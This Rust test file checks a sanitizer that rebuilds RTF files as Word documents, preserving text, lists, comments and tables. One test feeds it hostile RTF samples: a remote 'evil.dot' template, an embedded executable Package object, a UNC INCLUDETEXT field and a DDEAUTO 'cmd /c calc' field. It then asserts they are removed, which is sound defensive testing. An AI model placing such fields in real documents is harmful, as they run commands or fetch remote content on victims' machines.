//! Rich Text Format, written here as text.

use sanitizer_intermediate::{ChangedKind, HoldReason, RemovedKind};

use crate::chance::Chance;
use crate::desk::{Desk, changed, contains, removed};
use crate::office::package::{everything, part};
use crate::pictures::{gradient, png};

/// Bytes as RTF writes them: two digits each.
fn digits(bytes: &[u8], prefix: &str) -> String {
    bytes.iter().map(|it| format!("{prefix}{it:02x}")).collect()
}

fn japanese(text: &str) -> String {
    digits(&encoding_rs::SHIFT_JIS.encode(text).0, "\\'")
}

/// NF-32: a text becomes a Word document: characters of every kind, looks, tables, pictures.
#[test]
fn a_text_becomes_a_word_document() {
    let picture = digits(&png(&gradient(1), 16, 16), "");
    let file = format!(
        "{{\\rtf1\\ansi\\ansicpg1252{{\\fonttbl{{\\f0\\fcharset0 A;}}{{\\f1\\fcharset128 M;}}}}\
         {{\\colortbl;\\red255\\green0\\blue0;}}{{\\stylesheet{{\\s1 heading 1;}}}}\
         {{\\header {{\\f1 {header}}}\\par}}\
         \\pard\\outlinelevel0 {{\\f1 {title}}}\\par\
         \\pard {{\\b bold}}{{\\cf1 red}}\\u-10179?\\u-8503?\\u21513?\\'e9\\line next\\tab end\
         {{\\footnote note}}\\par\
         \\trowd\\cellx3000\\cellx6000\\pard\\intbl left\\cell right\\cell\\row\
         \\pard{{\\pict\\pngblip\\picwgoal1000\\pichgoal500 {picture}}}\\par}}",
        header = japanese("頭書き"),
        title = japanese("表示ソース"),
    );
    let rebuilt = Desk::new().sends("文書.rtf", file.as_bytes()).becomes("文書.docx");
    let body = part(&rebuilt.bytes, "word/document.xml");
    for text in ["表示ソース", "bold", "red", "吉é", "next", "left", "right"] {
        assert!(body.contains(text), "{text}: {body}");
    }
    for look in
        ["Heading1", "<w:b/>", "FF0000", "<w:br/>", "<w:tab/>", "w:w=\"3000\"", "cx=\"635000\""]
    {
        assert!(body.contains(look), "{look}: {body}");
    }
    assert!(part(&rebuilt.bytes, "word/header1.xml").contains("頭書き"));
    assert!(part(&rebuilt.bytes, "word/footnotes.xml").contains("note"));
    assert_eq!(changed(&rebuilt, ChangedKind::TypeChanged), 1);
}

/// NF-32: remarks beside the text stay, without who wrote them and when.
#[test]
fn remarks_stay_with_their_words() {
    let file = format!(
        "{{\\rtf1\\ansi{{\\fonttbl{{\\f1\\fcharset128 M;}}}}\\f1 before{{\\*\\atrfstart 7}}about{{\\*\\atrfend 7}}\
         {{\\v{{\\*\\atnid SE}}{{\\*\\atnauthor secret}}\\chatn{{\\*\\annotation{{\\*\\atnref 7}}{{\\*\\atndate 12345}}\
         \\pard first {words}\\par second}}}} after\\par}}",
        words = japanese("税込みですか"),
    );
    let rebuilt = Desk::new().sends("文書.rtf", file.as_bytes()).becomes("文書.docx");
    let body = part(&rebuilt.bytes, "word/document.xml");
    assert!(body.contains("beforeabout") && body.contains(" after"), "{body}");
    assert_eq!(body.matches("<w:commentReference w:id=\"0\"/>").count(), 1, "{body}");
    let comments = part(&rebuilt.bytes, "word/comments.xml");
    assert!(comments.contains("first 税込みですか") && comments.contains(">second<"), "{comments}");
    assert!(!comments.contains("vanish"), "{comments}");
    let everything = everything(&rebuilt.bytes);
    assert!(!contains(&everything, b"secret") && !contains(&everything, b"12345"));
    assert_eq!(removed(&rebuilt, RemovedKind::Comments), 0);
}

/// NF-32: objects, templates and fields that fetch stay behind; what they showed stays.
#[test]
fn what_is_active_stays_behind() {
    let file = b"{\\rtf1{\\*\\template http://example.com/evil.dot}{\\info{\\author secret}}\
        {\\object\\objupdate{\\*\\objclass Package}{\\*\\objdata 4d5a9000}{\\result shown object}}\
        {\\field{\\*\\fldinst INCLUDETEXT \"\\\\\\\\host\\\\share\"}{\\fldrslt shown text}}\
        {\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt shown value}}\
        {\\*\\unknown hidden}\\par}";
    let rebuilt = Desk::new().sends("文書.rtf", file).becomes("文書.docx");
    let everything = everything(&rebuilt.bytes);
    for active in ["example.com", "secret", "4d5a", "host", "calc", "hidden", "Package"] {
        assert!(!contains(&everything, active.as_bytes()), "{active}");
    }
    for shown in ["shown object", "shown text", "shown value"] {
        assert!(contains(&everything, shown.as_bytes()), "{shown}");
    }
    for kind in [
        RemovedKind::OleObjects,
        RemovedKind::ActiveFields,
        RemovedKind::Dde,
        RemovedKind::ExternalReferences,
        RemovedKind::Properties,
    ] {
        assert_eq!(removed(&rebuilt, kind), 1, "{}", kind.code());
    }
}

/// NF-32: groups without end and endless text are held, whatever they cost.
#[test]
fn floods_are_held() {
    let mut desk = Desk::new();
    let deep = format!("{{\\rtf1{}", "{".repeat(5_000));
    desk.sends("a.rtf", deep.as_bytes()).is_held_with(HoldReason::TooComplex);
    desk.rebuilder.runner.limits.text_bytes = 1_000;
    let long = format!("{{\\rtf1 {}}}", "a".repeat(2_000));
    desk.sends("a.rtf", long.as_bytes()).is_held_with(HoldReason::TooLarge);
}

/// NF-32: damaged files end with a document or a reason.
#[test]
fn damaged_files_end_with_a_reason() {
    let desk = Desk::new();
    let whole = b"{\\rtf1\\ansi{\\fonttbl{\\f0\\fcharset128 M;}}\\trowd\\cellx9\\intbl a\\cell\\row{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}{\\footnote x}\\u26085?\\par}";
    let mut chance = Chance::new(21);
    for _ in 0..80 {
        let mut bytes = whole.to_vec();
        for _ in 0..=chance.below(3) {
            let at = 5 + chance.below(bytes.len() - 5);
            bytes[at] = chance.byte();
        }
        let sent = desk.sends("a.rtf", &bytes);
        assert!(sent.0.diagnosis.is_none(), "{:?}", sent.0.diagnosis);
    }
}

/// NF-32: lists count as they did: formats, texts around the number, levels, a new beginning.
#[test]
fn lists_count_as_they_did() {
    let level = |format: u8, text: &str| {
        format!(
            "{{\\listlevel\\levelnfc{format}\\levelstartat1{{\\leveltext{text};}}{{\\levelnumbers\\'02;}}}}"
        )
    };
    let open = japanese("（");
    let table = format!(
        "{{\\*\\listtable{{\\list\\listtemplateid1{}{}{{\\listname ;}}\\listid7}}{{\\list{}\\listid8}}}}\
         {{\\*\\listoverridetable{{\\listoverride\\listid7\\listoverridecount0\\ls1}}{{\\listoverride\\listid8\\listoverridecount0\\ls2}}\
         {{\\listoverride\\listid7\\listoverridecount1{{\\lfolevel\\listoverridestartat\\levelstartat5}}\\ls3}}}}",
        level(0, &format!("\\'02{open}\\'00.")),
        level(12, "\\'01\\'01"),
        level(23, "\\'01\\u-3913 ?"),
    );
    let file = format!(
        "{{\\rtf1\\ansi\\ansicpg932{table}\\pard{{\\listtext 1.\\tab}}\\ls1\\ilvl0 first\\par{{\\listtext a\\tab}}\\ilvl1 inner\\par\
         \\pard\\ls2 dot\\par\\pard\\ls3 anew\\par\\pard\\ls0 none\\par}}"
    );
    let rebuilt = Desk::new().sends("a.rtf", file.as_bytes()).becomes("a.docx");
    let numbering = part(&rebuilt.bytes, "word/numbering.xml");
    for expected in [
        "w:lvlText w:val=\"（%1.\"",
        "w:val=\"aiueo\"",
        "w:lvlText w:val=\"%2\"",
        "w:lvlText w:val=\"•\"",
        "w:start w:val=\"5\"",
    ] {
        assert!(numbering.contains(expected), "{expected}\n{numbering}");
    }
    let body = part(&rebuilt.bytes, "word/document.xml");
    let numbers = body.matches("<w:numPr>").count();
    assert_eq!(numbers, 4, "{body}");
    assert!(body.contains("<w:ilvl w:val=\"1\"/>") && !body.contains("1.<"), "{body}");
}

/// Paragraphs of old files say themselves how they count; a paragraph between begins anew.
#[test]
fn paragraphs_that_count_themselves_become_lists() {
    let number = "{\\pntext 1.\\tab}{\\*\\pn\\pnlvlbody\\pndec\\pnstart1{\\pntxtb (}{\\pntxta )}}";
    let bullet = "{\\*\\pn\\pnlvlblt\\pnf1{\\pntxtb\\'b7}}";
    let file = format!(
        "{{\\rtf1\\ansi\\pard{number}one\\par{number}two\\par\\pard between\\par\
         \\pard{number}anew\\par\\pard{bullet}dot\\par}}"
    );
    let rebuilt = Desk::new().sends("a.rtf", file.as_bytes()).becomes("a.docx");
    let numbering = part(&rebuilt.bytes, "word/numbering.xml");
    assert_eq!(numbering.matches("w:lvlText w:val=\"(%1)\"").count(), 2, "{numbering}");
    let body = part(&rebuilt.bytes, "word/document.xml");
    assert_eq!(body.matches("<w:numPr>").count(), 4, "{body}");
    assert!(!body.contains(">(<") && body.contains("between"), "{body}");
}
